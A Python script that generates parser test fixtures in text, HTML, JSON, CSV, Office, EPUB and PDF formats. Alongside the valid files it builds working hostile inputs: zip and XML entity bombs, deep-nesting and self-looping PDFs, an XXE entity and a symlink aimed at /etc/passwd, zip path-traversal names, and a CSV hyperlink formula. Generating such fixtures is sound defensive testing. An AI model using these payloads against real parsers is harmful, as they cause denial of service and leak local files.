#!/usr/bin/env python3
"""Writes small documents for parser tests into a folder: one of each format, and hostile ones.

    make_fixtures.py FOLDER

Beside the files goes `manifest.json`, a list of `{file, expect, sentences, absent, why}`:

- `expect`: `text` (must be parsed), `refused` (must fail with a reason), `either` (both are right; what counts is that
  the parser neither hangs, nor crashes its parent, nor passes its limits).
- `sentences`: strings that the text must contain when there is text, white space normalised.
- `absent`: strings that it must never contain.
- `why`: what the file tries.

The files are made at test time, so that no binary is committed. Standard library only; the same bytes on every run.

**Invariant:** every file is at most 512 KiB on disk and nothing is written outside the folder.
"""

import io
import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path

MIB = 1024 * 1024
BOMB_BYTES = 96 * MIB  # unpacked; about 95 KiB on disk
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
FIRST = "The tide gauge at Orlestone was repaired by Maud Ferrant."
SECOND = "It has measured the harbour every six minutes since 4 May 2023."
ACCENTS = "Zoë Kjærulff paid 12 € for the naïve café sign."


# -- containers -------------------------------------------------------------------------------------------------------


def archive(entries, stored=()):
    """A zip of {name: text or bytes}; names in `stored` are not compressed. Fixed dates, so equal bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            file.writestr(info, content)
    return buffer.getvalue()


RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SLIDE = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
OFFICE_TYPE = "application/vnd.openxmlformats-officedocument."


def relations(*pairs):
    """A .rels part: (kind, target) pairs become rId1, rId2, ..."""
    rows = (
        f'<Relationship Id="rId{i}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for i, (kind, target) in enumerate(pairs, 1)
    )
    return f'{XML}<Relationships xmlns="{RELATIONSHIPS}">{"".join(rows)}</Relationships>'


def content_types(**parts):
    """[Content_Types].xml; keyword = part path with `/` as `__` and no `.xml`, value = type below OFFICE_TYPE."""
    rows = (
        f'<Override PartName="/{part.replace("__", "/")}.xml" ContentType="{OFFICE_TYPE}{kind}+xml"/>'
        for part, kind in parts.items()
    )
    return (
        f'{XML}<Types xmlns="{TYPES}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{"".join(rows)}</Types>'
    )


def docx_parts(body, prologue=""):
    document = f'{XML}{prologue}<w:document xmlns:w="{WORD}"><w:body>{body}<w:sectPr/></w:body></w:document>'
    return {
        "[Content_Types].xml": content_types(word__document="wordprocessingml.document.main"),
        "_rels/.rels": relations(("officeDocument", "word/document.xml")),
        "word/document.xml": document,
    }


def paragraph(*runs, style=None):
    properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    pieces = "".join(f'<w:r><w:t xml:space="preserve">{run}</w:t></w:r>' for run in runs)
    return f"<w:p>{properties}{pieces}</w:p>"


def docx_body():
    # A sentence cut into runs in the middle of a word is what word processors write; it must come out whole.
    cell = f"<w:tbl><w:tr><w:tc>{paragraph('Gauge')}</w:tc><w:tc>{paragraph('Orlestone Pier')}</w:tc></w:tr></w:tbl>"
    return (
        paragraph("Tide gauges", style="Heading1")
        + paragraph("The tide gau", "ge at Orle", "stone was repaired by Maud Ferrant.")
        + paragraph(SECOND)
        + paragraph(ACCENTS)
        + cell
    )


def xlsx_parts(rows, shared=(), prologue="", dimension="A1:C3"):
    strings = "".join(f"<si><t>{text}</t></si>" for text in shared)
    return {
        "[Content_Types].xml": content_types(
            xl__workbook="spreadsheetml.sheet.main",
            xl__worksheets__sheet1="spreadsheetml.worksheet",
            xl__sharedStrings="spreadsheetml.sharedStrings",
        ),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{XML}<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="Gauges" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")
        ),
        "xl/worksheets/sheet1.xml": f'{XML}<worksheet xmlns="{SHEET}"><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>",
        "xl/sharedStrings.xml": f'{XML}{prologue}<sst xmlns="{SHEET}">{strings}</sst>',
    }


def xlsx_rows():
    return (
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="s"><v>2</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>3</v></c><c r="B2"><v>17.25</v></c>'
        '<c r="C2" t="inlineStr"><is><t>Maud Ferrant</t></is></c></row>'
    )


def pptx_parts():
    def slide(title, text):
        def shape(number, kind, words):
            return (
                f'<p:sp><p:nvSpPr><p:cNvPr id="{number}" name="{kind}"/><p:cNvSpPr/><p:nvPr><p:ph type="{kind}"/>'
                "</p:nvPr></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/>"
                f"<a:p><a:r><a:t>{words}</a:t></a:r></a:p></p:txBody></p:sp>"
            )

        return (
            f'{XML}<p:sld xmlns:p="{SLIDE}" xmlns:a="{DRAWING}" xmlns:r="{OFFICE}"><p:cSld><p:spTree><p:nvGrpSpPr>'
            '<p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
            f"{shape(2, 'title', title)}{shape(3, 'body', text)}</p:spTree></p:cSld></p:sld>"
        )

    return {
        "[Content_Types].xml": content_types(
            ppt__presentation="presentationml.presentation.main",
            ppt__slides__slide1="presentationml.slide",
            ppt__slides__slide2="presentationml.slide",
        ),
        "_rels/.rels": relations(("officeDocument", "ppt/presentation.xml")),
        "ppt/presentation.xml": f'{XML}<p:presentation xmlns:p="{SLIDE}" xmlns:r="{OFFICE}"><p:sldIdLst>'
        '<p:sldId id="256" r:id="rId1"/><p:sldId id="257" r:id="rId2"/></p:sldIdLst>'
        '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>',
        "ppt/_rels/presentation.xml.rels": relations(("slide", "slides/slide1.xml"), ("slide", "slides/slide2.xml")),
        "ppt/slides/slide1.xml": slide("Tide gauges", FIRST),
        "ppt/slides/slide2.xml": slide("Since when", SECOND),
    }


def epub_parts(package="OEBPS/content.opf"):
    def chapter(title, *texts):
        body = "".join(f"<p>{text}</p>" for text in texts)
        return (
            f'{XML}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>{title}</title></head>'
            f"<body><h1>{title}</h1>{body}</body></html>"
        )

    return {
        "mimetype": "application/epub+zip",
        "META-INF/container.xml": f'{XML}<container version="1.0" '
        'xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        f'<rootfile full-path="{package}" media-type="application/oebps-package+xml"/></rootfiles></container>',
        "OEBPS/content.opf": f'{XML}<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">'
        '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:isbn:0</dc:identifier>'
        "<dc:title>Tide gauges</dc:title><dc:language>en</dc:language>"
        '<meta property="dcterms:modified">2025-01-01T00:00:00Z</meta></metadata><manifest>'
        '<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>'
        '<item id="one" href="one.xhtml" media-type="application/xhtml+xml"/>'
        '<item id="two" href="two.xhtml" media-type="application/xhtml+xml"/>'
        '</manifest><spine><itemref idref="one"/><itemref idref="two"/></spine></package>',
        "OEBPS/nav.xhtml": f'{XML}<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops">'
        '<head><title>Contents</title></head><body><nav epub:type="toc"><ol><li><a href="one.xhtml">Repairs</a></li>'
        '<li><a href="two.xhtml">Since when</a></li></ol></nav></body></html>',
        "OEBPS/one.xhtml": chapter("Repairs", FIRST, ACCENTS),
        "OEBPS/two.xhtml": chapter("Since when", SECOND),
    }


def epub(parts):
    return archive(parts, stored=("mimetype",))


def pdf(objects, trailer=""):
    """A PDF of numbered objects (bytes, from 1; object 1 is the catalog) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer.encode())
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content, extra=b""):
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(content), extra, content)


def page_objects(*contents, kids=b"[%s]"):
    """Catalog, page tree, font, then a page and its content stream for each entry."""
    pages = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(len(contents)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids %s >>" % (len(contents), kids % pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for i, content in enumerate(contents):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (5 + 2 * i)
        )
        objects.append(content)
    return objects


def words(*lines):
    """A content stream that shows the lines below each other; cp1252 is the font's encoding."""
    shown = b"".join(b"(%s) Tj 0 -18 Td " % line.encode("cp1252") for line in lines)
    return b"BT /F1 12 Tf 72 760 Td " + shown + b"ET"


def deflated(content):
    return stream(zlib.compress(content, 9), b"/Filter /FlateDecode ")


# -- the files --------------------------------------------------------------------------------------------------------


def good():
    """(file, content, sentences, absent, why): each of these must be parsed."""
    text = f"Tide gauges\n\n{FIRST}\n{SECOND}\n\n{ACCENTS}\n"
    all_three = [FIRST, SECOND, ACCENTS]
    yield "plain.txt", text.encode(), all_three, [], "plain text"
    yield "bom.txt", b"\xef\xbb\xbf" + text.encode(), all_three, ["\ufeff"], "UTF-8 with a byte order mark"
    yield "crlf.txt", text.replace("\n", "\r\n").encode(), all_three, [], "line ends of another system"
    yield "plain.md", f"# Tide gauges\n\n{FIRST} **{SECOND}**\n\n- {ACCENTS}\n".encode(), all_three, ["**"], "Markdown"
    page = (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Tide gauges</title><style>p { color: teal }</style>"
        f"<script>var hidden = 'script-words';</script></head><body><h1>Tide gauges</h1><p>{FIRST}</p>"
        f"<p>{SECOND.replace('measured', '<b>measured</b>')}</p><p>Zo&euml; Kj&aelig;rulff paid 12 &euro; for the "
        "na&iuml;ve caf&eacute; sign.</p><!-- comment-words --></body></html>"
    )
    hidden = ["script-words", "comment-words", "color: teal", "&euro;"]
    yield "page.html", page.encode(), all_three, hidden, "HTML with entities, a script, a style and a comment"
    gauge = {"name": "Orlestone Pier", "notes": [FIRST, SECOND]}
    record = {"gauge": gauge, "level": 17.25, "open": None, "sign": ACCENTS}
    yield "data.json", json.dumps(record).encode(), all_three, [], "JSON, nested, with escapes"
    lines = "".join(json.dumps({"text": sentence}) + "\n" for sentence in all_three)
    yield "lines.jsonl", lines.encode(), all_three, [], "JSON lines"
    table = f'gauge,level,note\n"Orlestone, Pier",17.25,"{FIRST}"\nQuoin,3,"say ""when"""\n'
    yield "table.csv", table.encode(), ["Orlestone, Pier", "17.25", FIRST, 'say "when"'], [], "CSV with quoting"
    docx = archive(docx_parts(docx_body()))
    yield "document.docx", docx, [*all_three, "Orlestone Pier"], [], "docx with a heading, cut runs and a table"
    yield "slides.pptx", archive(pptx_parts()), [FIRST, SECOND], [], "two slides"
    sheet = archive(xlsx_parts(xlsx_rows(), ["Gauge", "Level", "Repaired by", "Orlestone Pier"]))
    yield "sheet.xlsx", sheet, ["Orlestone Pier", "17.25", "Maud Ferrant"], [], "shared, inline and numeric cells"
    yield "book.epub", epub(epub_parts()), all_three, [], "two chapters"
    plain = pdf(page_objects(stream(words(FIRST, SECOND)), stream(words(ACCENTS))))
    yield "document.pdf", plain, all_three, [], "two pages, plain streams"
    packed = pdf(page_objects(deflated(words(FIRST, SECOND)), deflated(words(ACCENTS))))
    yield "compressed.pdf", packed, all_three, [], "two pages, deflated streams"


def bombs():
    """Small files that grow: in memory, in time, or in entries."""
    fill = b"<w:p><w:r><w:t>" + b"a" * BOMB_BYTES + b"</w:t></w:r></w:p>"
    parts = docx_parts("@")
    parts["word/document.xml"] = parts["word/document.xml"].encode().replace(b"@", fill)
    yield "bomb.docx", archive(parts), f"a zip member of {BOMB_BYTES // MIB} MiB"
    parts = xlsx_parts(xlsx_rows(), ["@"])
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].encode().replace(b"@", b"a" * BOMB_BYTES)
    yield "bomb.xlsx", archive(parts), f"shared strings of {BOMB_BYTES // MIB} MiB"
    parts = epub_parts()
    parts["OEBPS/one.xhtml"] = parts["OEBPS/one.xhtml"].encode().replace(FIRST.encode(), b"a" * BOMB_BYTES)
    yield "bomb.epub", epub(parts), f"a chapter of {BOMB_BYTES // MIB} MiB"
    twice = zlib.compress(zlib.compress(b"BT /F1 12 Tf " + b"(a) Tj " * (BOMB_BYTES // 7) + b"ET", 9), 9)
    page = stream(twice, b"/Filter [/FlateDecode /FlateDecode] ")
    yield "bomb.pdf", pdf(page_objects(page)), f"a stream of {BOMB_BYTES // MIB} MiB, deflated twice"
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY e0 "lol">{entities}]>'
    yield "entities.docx", archive(docx_parts(paragraph("&e9;"), doctype)), "an XML entity bomb: 3 * 10^9 bytes"
    yield "entities.xlsx", archive(xlsx_parts(xlsx_rows(), ["&e9;"], doctype)), "the same in shared strings"
    corner = xlsx_rows() + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    sparse = xlsx_parts(corner, ["a", "b", "c", "d"], dimension="A1:XFD1048576")
    yield "sparse.xlsx", archive(sparse), "a cell in the last corner: 1.7 * 10^10 cells when held densely"
    many = {**docx_parts(docx_body()), **{f"word/x{i}.xml": b"" for i in range(4000)}}
    yield "many-entries.docx", archive(many), "4,000 empty zip members"
    yield "overlap.docx", overlapping(2000, 4 * MIB), "2,000 directory entries that share one member of 4 MiB"


def overlapping(count, size):
    """A zip whose directory names one compressed member many times under different names."""
    content = b"a" * size
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    sizes = struct.pack("<III", zlib.crc32(content), len(packed), len(content))
    out = struct.pack("<IHHHHH", 0x04034B50, 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", 4, 0) + b"0000" + packed
    start = len(out)
    directory = b"".join(
        struct.pack("<IHHHHHH", 0x02014B50, 20, 20, 0, 8, 0, 33)
        + sizes
        + struct.pack("<HHHHHII", 4, 0, 0, 0, 0, 0, 0)
        + b"%04d" % i
        for i in range(count)
    )
    return out + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), start, 0)


def deep():
    """Files that nest until a recursive parser runs out of stack, or loops."""
    nested = b"[" * 50_000 + b"]" * 50_000
    yield "deep-array.pdf", pdf([*page_objects(stream(words(FIRST))), nested]), "an object of 50,000 nested arrays"
    in_page = page_objects(stream(words(FIRST)))
    in_page[3] = in_page[3].replace(b"/Type /Page ", b"/Type /Page /Annots " + nested + b" ")
    yield "deep-page.pdf", pdf(in_page), "a page with 50,000 nested arrays"
    yield "deep-content.pdf", pdf(page_objects(stream(b"q " * 90_000 + words(FIRST)))), "90,000 saved graphics states"
    depth = 3000
    tree = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(2, depth + 2):
        tree.append(b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>" % (max(i - 1, 2), i + 1))
    tree.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (depth + 1))
    yield "deep-pages.pdf", pdf(tree), "a page tree 3,000 levels deep"
    loop = page_objects(stream(words(FIRST)), kids=b"[2 0 R %s 2 0 R]")
    yield "loop-pages.pdf", pdf(loop), "a page tree that contains itself"
    form = page_objects(stream(b"/X Do " + words(FIRST)))
    form[3] = form[3].replace(b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<")
    itself = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> "
    form.append(stream(b"/X Do", itself))
    yield "loop-form.pdf", pdf(form), "a form that draws itself"
    yield "deep.json", b"[" * 100_000 + b"]" * 100_000, "JSON nested 100,000 deep"
    yield "deep.html", b"<div>" * 40_000 + FIRST.encode() + b"</div>" * 40_000, "40,000 nested elements"
    yield "deep.md", b"> " * 40_000 + FIRST.encode() + b"\n", "40,000 nested quotes"
    yield "brackets.md", b"[" * 60_000 + b"](" * 30_000, "60,000 open brackets"
    table = "<w:tbl><w:tr><w:tc>" * 5000 + paragraph(FIRST) + "</w:tc></w:tr></w:tbl>" * 5000
    yield "deep.docx", archive(docx_parts(table)), "5,000 nested tables"


def refused():
    """(file, content, why): damaged, disguised or empty; there is nothing right to read in them."""
    parts, whole = docx_parts(docx_body()), pdf(page_objects(deflated(words(FIRST, SECOND)), deflated(words(ACCENTS))))
    yield "empty.txt", b"", "no bytes"
    yield "empty.pdf", b"", "no bytes"
    yield "empty.docx", b"", "no bytes"
    yield "blank.txt", b" \n\t\r\n  \n", "white space only"
    yield "truncated.docx", archive(parts)[:-200], "a zip without its end"
    yield "header.pdf", whole[:12], "nothing but the first line"
    yield "bad.json", b'{"text": "The tide gauge', "a string that does not end"
    yield "picture.pdf", b"\x89PNG\r\n\x1a\n" + bytes(64), "a picture named .pdf"
    yield "pdf-inside.docx", whole, "a PDF named .docx"
    yield "zip-inside.pdf", archive(parts), "a zip named .pdf"
    yield "program.txt", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8, "a program named .txt"
    yield "no-document.docx", archive({"[Content_Types].xml": content_types()}), "no document inside"
    locked = "/Encrypt 6 0 R /ID [<00><00>] "
    secret = b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>" % (b"41" * 32, b"42" * 32)
    yield "locked.pdf", pdf([*page_objects(stream(b"\x8f" * 64)), secret], locked), "encrypted, password unknown"
    wrong = bytearray(archive(parts, stored=parts))
    at = wrong.index(FIRST[-20:].encode())
    wrong[at] ^= 1
    yield "bad-checksum.docx", bytes(wrong), "a member that does not match its checksum"


def outside():
    """(file, content, absent, why): files that point out of themselves."""
    passwd = '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>'
    yield "external.docx", archive(docx_parts(paragraph("&out;"), passwd)), ["root:"], "an external XML entity"
    names = ("../escaped-up.txt", "/escaped-root.txt", "..\\escaped-back.txt", "word/../../escaped-mid.txt")
    climbing = {**docx_parts(docx_body()), **{name: "escaped-words" for name in names}}
    yield "traversal.docx", archive(climbing), ["escaped-words"], "zip names that climb out of the folder"
    climbing = {**epub_parts(), **{name: "escaped-words" for name in names}}
    yield "traversal.epub", epub(climbing), ["escaped-words"], "the same in an EPUB"
    yield "package.epub", epub(epub_parts("../../../../etc/passwd")), ["root:"], "an EPUB whose package is outside"
    chapter = epub_parts()
    chapter["OEBPS/content.opf"] = chapter["OEBPS/content.opf"].replace("one.xhtml", "../../../../etc/passwd")
    yield "chapter.epub", epub(chapter), ["root:"], "an EPUB whose chapter is outside"
    link = zipfile.ZipInfo("word/document.xml", (2025, 1, 1, 0, 0, 0))
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO(archive({k: v for k, v in docx_parts("").items() if k != "word/document.xml"}))
    with zipfile.ZipFile(buffer, "a") as file:
        file.writestr(link, "/etc/passwd")
    yield "symlink.docx", buffer.getvalue(), ["root:"], "a member that is a symbolic link"
    frame = f'<p>{FIRST}</p><iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object>'
    yield "frame.html", frame.encode(), ["root:"], "HTML that embeds a local file"


def either():
    """(file, content, sentences, absent, why): text that a parser may decode or refuse, but not garble."""
    plain = f"{FIRST}\n{SECOND}\n"
    yield "latin1.txt", ACCENTS.replace("€", "EUR").encode("latin-1"), [], ["\ufffd"], "Latin-1, hence not UTF-8"
    yield "utf16le.txt", b"\xff\xfe" + plain.encode("utf-16-le"), [FIRST], ["\0"], "UTF-16, little end first, marked"
    yield "utf16be.txt", b"\xfe\xff" + plain.encode("utf-16-be"), [FIRST], ["\0"], "UTF-16, big end first, marked"
    yield "nul.txt", f"{FIRST}\0{SECOND}".encode(), [], ["\0"], "a NUL byte, which no text column takes"
    nul = json.dumps({"text": f"{FIRST}\0{SECOND}"}).encode()
    yield "nul.json", nul, [], ["\0"], "an escaped NUL"
    yield "surrogate.json", b'{"text": "half \\ud83d a sign"}', [], [], "half of a surrogate pair"
    broken = b'{"text": "one"}\n{"text": \n{"text": "three"}\n'
    yield "bad-line.jsonl", broken, [], [], "a broken line between good ones"
    yield "duplicate-keys.json", b'{"text": "one", "text": "two"}', [], [], "the same key twice"
    yield "ragged.csv", f'a,b\n1\n1,2,3,4\n"{FIRST}\n'.encode(), [], [], "rows of unequal length and an open quote"
    whole = pdf(page_objects(stream(words(FIRST)), stream(words(SECOND))))
    yield "truncated.pdf", whole[: len(whole) * 3 // 4], [], [], "a PDF without its end"
    yield "bad-xref.pdf", whole.replace(b"startxref\n", b"startxref\n9"), [], [], "a PDF whose table is elsewhere"
    formula = "=HYPERLINK(\"http://example.invalid/\"&A1)"
    yield "formula.csv", f"a\n{json.dumps(formula)}\n".encode(), [], [], "a formula; it is text to us"


def fixtures():
    """Every file as (name, content, manifest entry)."""
    for name, content, sentences, absent, why in good():
        yield name, content, entry(name, "text", sentences, absent, why)
    for name, content, why in [*bombs(), *deep()]:
        yield name, content, entry(name, "either", [], [], why)
    for name, content, why in refused():
        yield name, content, entry(name, "refused", [], [], why)
    for name, content, absent, why in outside():
        yield name, content, entry(name, "either", [], absent, why)
    for name, content, sentences, absent, why in either():
        yield name, content, entry(name, "either", sentences, absent, why)


def entry(name, expect, sentences, absent, why):
    return {"file": name, "expect": expect, "sentences": sentences, "absent": absent, "why": why}


def main(arguments):
    if len(arguments) != 1:
        print("usage: make_fixtures.py FOLDER", file=sys.stderr)
        return 2
    folder = Path(arguments[0])
    folder.mkdir(parents=True, exist_ok=True)
    manifest = []
    for name, content, described in fixtures():
        (folder / name).write_bytes(content)
        manifest.append(described)
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
